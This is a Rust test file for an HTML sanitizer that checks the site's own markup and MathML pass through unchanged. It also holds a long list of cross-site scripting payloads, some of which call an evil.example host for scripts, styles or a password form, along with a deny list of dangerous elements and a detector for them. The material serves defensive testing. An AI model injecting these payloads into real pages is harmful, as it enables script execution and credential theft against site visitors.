//! Tests of what stays and what goes.

use std::cell::RefCell;

use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer};

use super::*;

/// What the writer makes, as it makes it. Nothing of it may change.
const OURS: &[&str] = &[
    "<h2 id=\"a-b\">A <em>b</em> <strong>c</strong> <del>d</del> <mark>e</mark></h2>\n<p>x<br>\ny</p>\n<hr>\n",
    "<p><a href=\"../b/#c\" title=\"t\">b</a> <a href=\"#fn-1\">1</a> <a href=\"mailto:a@example.com\">m</a></p>",
    "<p><a href=\"https://example.com/?a=1&amp;b=2\" rel=\"external\">e</a> <a href=\"tel:+44\">t</a></p>",
    "<div class=\"table-scroll\" role=\"region\" aria-labelledby=\"table:1\" tabindex=\"0\">\n<table class=\"markdown\">\n\
     <caption id=\"table:1\">c</caption>\n<thead>\n<tr><th scope=\"col\" class=\"right\">a</th></tr>\n</thead>\n\
     <tbody>\n<tr><th scope=\"row\">a</th><td class=\"left\" colspan=\"2\">b</td></tr>\n</tbody>\n</table>\n</div>\n",
    "<ul>\n<li><input type=\"checkbox\" disabled=\"\" checked=\"\"> done</li>\n</ul>\n<ol start=\"3\">\n<li>c</li>\n</ol>\n",
    "<pre tabindex=\"0\"><code class=\"language-rust\"><span class=\"k\">let</span> a\n\n</code></pre>\n",
    "<sup class=\"footnote\" id=\"fnref-1\"><a href=\"#fn-1\" role=\"doc-noteref\" aria-label=\"Note 1\">1</a></sup>",
    "<section class=\"footnotes\" role=\"doc-endnotes\"><ol><li id=\"fn-1\"><p>x</p></li></ol></section>",
    "<details class=\"callout note\" open=\"\" data-kind=\"note\"><summary>S</summary>\n<p>x</p>\n</details>\n",
    "<figure><img src=\"a%20b.jpg\" alt=\"\" width=\"3\" height=\"2\" loading=\"lazy\" srcset=\"a.jpg 1x, b.jpg 2x\">\
     <figcaption lang=\"zh\" dir=\"ltr\">热</figcaption></figure>",
    "<audio controls=\"\" src=\"a.mp3\"></audio><video controls=\"\" poster=\"p.jpg\"><source src=\"v.mp4\" type=\"video/mp4\"></video>",
    "<dl>\n<dt>a</dt>\n<dd>b</dd>\n</dl>\n<blockquote>\n<p>q</p>\n</blockquote>\n<p>&lt;b&gt; &amp;amp; \"'</p>",
    "<aside class=\"callout\"><p class=\"callout-title\">x</p></aside><p><kbd>a</kbd><sub>1</sub><abbr title=\"t\">b</abbr></p>",
];

/// The lists of what formulas may hold and of what articles by strangers may hold differ: these may write MathML of their own.
#[test]
fn whatever_a_formula_holds_stays() {
    use crate::article::math::{ATTRIBUTES, ELEMENTS};
    let around = |html: &str| format!("<math display=\"block\"><semantics><mrow>{html}</mrow></semantics></math>");
    for element in ELEMENTS {
        if element.starts_with('m') {
            for attribute in ATTRIBUTES.iter().chain(&["class", "mathcolor", "mathsize"]) {
                let html = around(&format!("<{element} {attribute}=\"1\"></{element}>"));
                assert_eq!(sanitize(&html), html);
            }
        } else {
            let html = around(&format!("<mtext><{element} class=\"serif\">x</{element}></mtext>"));
            assert_eq!(sanitize(&html), html);
        }
    }
}

#[test]
fn what_the_writer_makes_stays_as_it_is() {
    for html in OURS {
        assert_eq!(sanitize(html), *html);
    }
    let formulas = [
        r"\frac{a}{b} < \sqrt[3]{x}",
        r"\begin{cases}a & \text{if } b > c\\ d\end{cases} \tag{1}",
        r"\cancel{x} \color{red} y",
    ];
    for formula in formulas {
        let html = crate::article::math::mathml(formula, true).unwrap();
        let (ours, theirs) = (tags(&html), tags(&sanitize(&html)));
        assert_eq!(ours, theirs, "{html}");
    }
}

#[test]
fn attributes_without_a_value_are_written_out() {
    assert_eq!(
        sanitize("<input type=\"checkbox\" disabled> <details open>x</details>"),
        "<input type=\"checkbox\" disabled=\"\"> <details open=\"\">x</details>"
    );
}

#[test]
fn names_of_the_theme_are_not_for_strangers() {
    assert_eq!(
        sanitize("<p id=\"page.main\">a</p><a name=\"page.x\">b</a><p id=\" page.y\">c</p>"),
        "<p>a</p><a>b</a><p>c</p>"
    );
    assert_eq!(sanitize("<p id=\"pages\">a</p>"), "<p id=\"pages\">a</p>");
}

/// Attacks.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=`x` onerror=alert(1)>",
    "<p onclick=\"alert(1)\">x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video onloadstart=alert(1) src=x></video>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"blob:https://example.com/x\">x</a>",
    "<a href=\"filesystem:https://example.com/x\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<area href=javascript:alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img srcset=\"a.png 1x, JavaScript:alert(1) 2x\">",
    "<video poster=javascript:alert(1)></video>",
    "<video><source src=javascript:alert(1)></video>",
    "<video><track src=\"data:text/vtt,x\"></video>",
    "<audio src=\"data:text/html,x\"></audio>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example)</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<form action=https://evil.example><input name=password type=password><button>Go</button></form>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select onchange=alert(1)><option>x</select>",
    "<textarea><script>alert(1)</script></textarea>",
    "<isindex action=javascript:alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)><mi>x</mi></math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math><annotation encoding=text/html><script>alert(1)</script></annotation></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</div></article></main><script>alert(1)</script>",
    "<table><script>alert(1)</script><tr><td><img src=x onerror=alert(1)></table>",
    "<p title=\"><script>alert(1)</script>\">x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open><form method=dialog></dialog>",
    "<portal src=https://evil.example></portal>",
    "<x-y onclick=alert(1) is=evil>x</x-y>",
    "<a href=x target=_top onauxclick=alert(1)>x</a>",
    "<div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<img usemap=#m src=x><map name=page.m><area shape=default href=javascript:alert(1)></map>",
    "<a href=\"\0javascript:alert(1)\">x</a>",
];

/// Elements that nothing may be left of.
const DANGEROUS: &[&str] = &[
    "applet",
    "base",
    "button",
    "dialog",
    "embed",
    "form",
    "frame",
    "frameset",
    "iframe",
    "link",
    "maction",
    "marquee",
    "meta",
    "noscript",
    "object",
    "option",
    "portal",
    "script",
    "select",
    "style",
    "svg",
    "template",
    "textarea",
    "title",
    "xmp",
    "plaintext",
    "annotation-xml",
    "mglyph",
    "foreignobject",
    "animate",
    "body",
    "html",
];

#[test]
fn nothing_that_could_run_survives() {
    let around =
        [("", ""), ("<p>", "</p>"), ("<table><tr><td>", ""), ("<math><mtext>", ""), ("<details open><summary>", "")];
    for attack in HOSTILE {
        for (before, behind) in around {
            let html = sanitize(&format!("{before}{attack}{behind}"));
            let faults = faults(&html);
            assert!(faults.is_empty(), "{attack} becomes {html}: {}", faults.join(", "));
            assert_eq!(sanitize(&html), html, "{attack}");
        }
    }
    assert!(HOSTILE.len() >= 60);
}

#[test]
fn the_test_sees_what_it_looks_for() {
    let missed: Vec<_> = HOSTILE.iter().filter(|attack| faults(attack).is_empty()).collect();
    assert!(missed.len() < HOSTILE.len() / 8, "{missed:?}");
}

/// What could run, in a browser's eyes.
fn faults(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for tag in tags(html).iter().filter(|tag| tag.kind == TagKind::StartTag) {
        if DANGEROUS.contains(&&*tag.name) {
            faults.push(format!("<{}>", tag.name));
        }
        for attribute in &tag.attrs {
            let (name, value) = (&*attribute.name.local, &*attribute.value);
            let is_type = name == "type" && &*tag.name == "input" && value != "checkbox";
            let is_bad = ["style", "srcdoc", "ping", "formaction", "action", "is", "popover", "usemap", "autofocus"]
                .contains(&name);
            let value: String =
                value.chars().filter(|char| !char.is_control() && *char != ' ').collect::<String>().to_lowercase();
            let begins = |scheme: &&str| value.starts_with(scheme) || name == "srcset" && value.contains(scheme);
            let runs = ["javascript:", "vbscript:", "data:", "blob:", "filesystem:"].iter().any(begins);
            let is_address = !matches!(name, "title" | "alt");
            if is_type
                || is_bad
                || name.starts_with("on")
                || name.contains(':')
                || (runs && is_address)
                || value.starts_with("page.")
            {
                faults.push(format!("{name}={value}"));
            }
        }
    }
    faults
}

/// The tags in a fragment, as a browser's tokenizer sees them.
fn tags(html: &str) -> Vec<Tag> {
    #[derive(Default)]
    struct Sink(RefCell<Vec<Tag>>);
    impl TokenSink for Sink {
        type Handle = ();

        fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
            if let Token::TagToken(tag) = token {
                self.0.borrow_mut().push(tag);
            }
            TokenSinkResult::Continue
        }
    }
    let tokenizer = Tokenizer::new(Sink::default(), Default::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _done = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.take()
}
